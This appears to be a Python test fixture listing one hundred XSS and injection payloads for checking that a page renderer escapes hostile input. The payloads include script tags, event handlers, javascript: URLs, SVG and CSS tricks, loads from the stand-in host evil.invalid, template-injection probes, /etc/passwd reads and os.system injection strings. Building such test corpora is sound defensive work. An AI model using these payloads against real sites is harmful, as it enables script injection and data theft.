"""A hundred texts that would run, load or leave the page, were any of them ever taken for more than text."""

EVIL = "http://evil.invalid/"

_RUN = [
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src={0}s.js></script>", "<script\n>alert(1)</script>", "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>", "</noscript><script>alert(1)</script>", "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
    "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "</q></summary></details><script>alert(1)</script>", "<script type=module>import '{0}m.js'</script>",
    "<script>document.title='run'</script>", "{{{{constructor.constructor('alert(1)')()}}}}", "<template><script>alert(1)</script></template>",
]
_EVENTS = [
    "<img src=x onerror=alert(1)>", "<img src={0}i.png>", "<img/src=x/onerror=alert(1)>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video src={0}v.mp4 onerror=alert(1)>", "<audio src={0}a.mp3>", "<marquee onstart=alert(1)>x</marquee>", "<select autofocus onfocus=alert(1)>", "<div onpointerover=alert(1) style=position:fixed;inset:0>x</div>",
    "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\" autofocus onfocus=alert(1) x=\"", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>", "<iframe src={0}f></iframe>",
    "<object data={0}o></object>", "<embed src={0}e>", "<picture><source srcset={0}p><img src=x></picture>", "<button formaction=javascript:alert(1)>x</button>",
]
_URLS = [
    "<a href=javascript:alert(1)>x</a>", "<a href=\"java\nscript:alert(1)\">x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href=data:text/html,<script>alert(1)</script>>x</a>", "<a href=vbscript:x>x</a>",
    "<base href={0}>", "<meta http-equiv=refresh content='0;url={0}r'>", "<link rel=stylesheet href={0}c.css>", "<link rel=prefetch href={0}pf>", "<link rel=dns-prefetch href=//evil.invalid>",
    "<form action={0}fo><input type=submit></form>", "<a href={0}ping ping={0}p>x</a>", "<img srcset='{0}ss 1x'>", "<table background={0}tb><tr><td>x</table>", "<body background={0}bb>",
    "<img src='data:image/svg+xml,<svg onload=alert(1) xmlns=http://www.w3.org/2000/svg/>'>", "<a href=\"//evil.invalid/x\">x</a>", "<a href=\"/etc/passwd\">x</a>", "<a href=\"file:///etc/passwd\">x</a>", "<a href=\"..%2f..%2fx\">x</a>",
]
_DRAWN = [
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><use href='{0}u.svg#x'/></svg>", "<svg><image href={0}si.png /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><style>@import '{0}si.css'</style></svg>",
    "<svg><rect fill='url({0}g#x)'/></svg>", "<math><mtext><script>alert(1)</script></mtext></math>", "<math href=javascript:alert(1)>x</math>", "<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>", "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x",
    "<style>@import '{0}im.css';</style>", "<p style=\"background:url({0}bg)\">x</p>", "<p style='position:fixed;inset:0;background:red'>x</p>", "<style>*{{background:url({0}all)}}</style>", "<div style=\"width:expression(alert(1))\">x</div>", "<link rel=stylesheet href='data:text/css,*{{display:none}}'>",
]
_OTHER = [
    "[x](javascript:alert(1))", "![x]({0}md.png)", "[x]({0}md)", "<{0}auto>", "`<img src=x onerror=alert(1)>`", "{{{{7*7}}}}", "{{% include '/etc/passwd' %}}", "${{7*7}}", "{{0.__class__.__mro__}}", "%(x)s %s %n",
    " href=\"nowhere.html#nothing\"", "<a href=\"county-x.html#f1-2\" id=\"main\">x</a>", " id=\"main\" class=\"failure\"", "$\\frac{{$ $x^{{$ \\input{{/etc/passwd}}", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;",
    "\u202e<tpircs>\u202c", "\"); import os; os.system(\"touch never\") #", "'''+__import__('os').system('touch never')+'''",
]
PAYLOADS = [payload.format(EVIL) for payload in (*_RUN, *_EVENTS, *_URLS, *_DRAWN, *_OTHER)]
